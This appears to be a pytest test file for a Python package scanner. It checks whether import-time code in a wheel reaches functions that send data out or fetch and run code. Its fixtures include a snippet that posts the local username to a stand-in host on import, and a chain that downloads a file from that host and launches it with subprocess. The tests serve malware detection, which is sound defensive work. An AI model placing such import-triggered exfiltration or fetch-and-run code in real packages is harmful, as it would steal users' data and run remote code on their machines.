"""What importing a package does by another of its modules."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from tests.scanner.signals.built import WHEEL, findings, fired, wheel

SENDS = b"""import getpass
import urllib.request


def start():
    urllib.request.urlopen("https://c.example.invalid/", data=getpass.getuser().encode())


class Beat:
    def __init__(self):
        start()


class Pulse:
    def go(self):
        start()
"""
LINKS = {
    "called": {"__init__": b"from .core import start\n\nstart()\n"},
    "under another name": {"__init__": b"from .core import start as _s\n\nif True:\n    _s()\n"},
    "by the package's name": {"__init__": b"from tidetables.core import start\nstart()\n"},
    "by the module": {"__init__": b"from . import core\ncore.start()\n"},
    "by a class": {"__init__": b"from .core import Beat\nBEAT = Beat()\n"},
    "by a method": {"__init__": b"from .core import Pulse\nPulse().go()\n"},
    "by a method of an object that has a name": {"__init__": b"from . import core\npulse = core.Pulse()\npulse.go()\n"},
    "in a thread": {"__init__": b"import threading\nfrom .core import start\nthreading.Thread(target=start).start()\n"},
    "by a function": {"__init__": b"from .core import start\n\ndef _boot():\n    start()\n\n_boot()\n"},
    "in two steps": {
        "__init__": b"from .boot import boot\nboot()\n",
        "boot": b"import socket\nfrom .core import start\n\ndef boot():\n    start()\n",
    },
}
LINKS["by a long module"] = {
    "__init__": b"from .core import start\n"
    + b"".join(b"def tide_%d(hour):\n    return hour * %d\n\n" % (n, n) for n in range(1100))
    + b"start()\n"
}
NO_LINKS = {
    "handed on": {"__init__": b"from .core import start\n\n__all__ = ['start']\n"},
    "an object alone": {"__init__": b"from .core import Pulse\nPULSE = Pulse()\n"},
    "called when asked": {"__init__": b"from .core import start\n\ndef go():\n    start()\n"},
    "another function": {
        "__init__": b"from .core import start\nfrom .near import begin\n\nbegin()\n",
        "near": b"def begin():\n    pass\n",
    },
    "as a program": {"__init__": b"from .core import start\n\nif __name__ == '__main__':\n    start()\n"},
    "another package": {"__init__": b"from other.core import start\nstart()\n"},
}


def _told(modules: dict[str, bytes]) -> set[tuple[str, str]]:
    files = {"tidetables/core.py": SENDS} | {f"tidetables/{name}.py": source for name, source in modules.items()}
    return {(found.rule, found.member) for found in findings(WHEEL, wheel(files))}


@pytest.mark.parametrize("modules", LINKS.values(), ids=LINKS)
def test_a_function_of_another_module_that_importing_calls_acts_on_import(modules: dict[str, bytes]) -> None:
    assert ("import-sends-local-data", "tidetables/core.py") in _told(modules)


@pytest.mark.parametrize("modules", NO_LINKS.values(), ids=NO_LINKS)
def test_a_function_of_another_module_that_nobody_calls_waits(modules: dict[str, bytes]) -> None:
    assert not any(name.startswith("import-") for name, _ in _told(modules))


def test_a_function_of_another_module_that_merely_talks_does_so_on_import() -> None:
    talks = b"from urllib.request import urlopen\n\n\ndef start():\n    urlopen('https://c.example.invalid/')\n"
    assert ("import-talks-to-network", "tidetables/core.py") in _told({**LINKS["called"], "core": talks})
    assert not any(name.startswith("import-") for name, _ in _told({**NO_LINKS["called when asked"], "core": talks}))


def test_modules_that_call_each_other_come_to_an_end() -> None:
    ring = {
        f"m{n}": b"import socket\nfrom .m%d import go\n\ndef go():\n    go()\n\ngo()\n" % ((n + 1) % 50)
        for n in range(50)
    }
    _told({"__init__": b"from .m0 import go\ngo()\n"} | ring)


FETCH = "from urllib.request import urlopen\n\n\ndef fetch(path):\n    with open(path, 'wb') as out:\n        out.write(urlopen('https://c.example.invalid/x').read())\n    return path\n"
LAUNCH = "import subprocess\n\n\ndef launch(path):\n    subprocess.Popen([path])\n"
CORE = "from .net import fetch\nfrom .proc import launch\n\n\ndef refresh():\n    launch(fetch('/tmp/x'))\n"


def test_a_function_that_does_nothing_hides_no_other_of_its_module() -> None:
    files = {
        "__init__": "from .core import start\nfrom .boot import boot\n\nstart()\nboot()\n",
        "boot": "import socket\nfrom .core import count\n\n\ndef boot():\n    return count()\n",
        "core": SENDS.decode() + "\n\ndef count():\n    return 1\n",
    }
    built = wheel({f"tidetables/{name}.py": text.encode() for name, text in files.items()})
    assert "import-sends-local-data" in fired(WHEEL, built)


@pytest.mark.parametrize(
    ("begins", "told"),
    [
        pytest.param("refresh()\n", True, id="by an import"),
        pytest.param("import threading\nthreading.Thread(target=refresh).start()\n", True, id="by a thread"),
        pytest.param("def tides():\n    refresh()\n", False, id="when it is asked"),
    ],
)
def test_what_one_module_fetches_another_starts_by_way_of_a_third(begins: str, told: bool) -> None:
    files = {"__init__": f"from .core import refresh\n\n{begins}", "core": CORE, "net": FETCH, "proc": LAUNCH}
    built = wheel({f"tidetables/{name}.py": text.encode() for name, text in files.items()})
    assert ("import-fetches-and-runs" in fired(WHEEL, built)) is told
